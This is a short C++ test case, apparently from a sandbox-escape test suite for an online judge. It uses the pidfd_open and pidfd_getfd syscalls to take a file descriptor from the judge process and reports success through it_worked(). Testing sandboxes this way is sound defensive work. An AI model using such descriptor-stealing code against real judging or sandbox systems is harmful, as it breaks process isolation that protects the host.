// Attack: takes a descriptor of the judge's out of it.
// Expect: AC
// Proof: claim
#include "bait.h"
#include "honest.h"
#include <sys/syscall.h>
void attack() {
    const long process = ::syscall(434 /* pidfd_open */, BAIT_JUDGE, 0);
    if (process >= 0 && ::syscall(438 /* pidfd_getfd */, process, 1, 0) >= 0) it_worked();
}
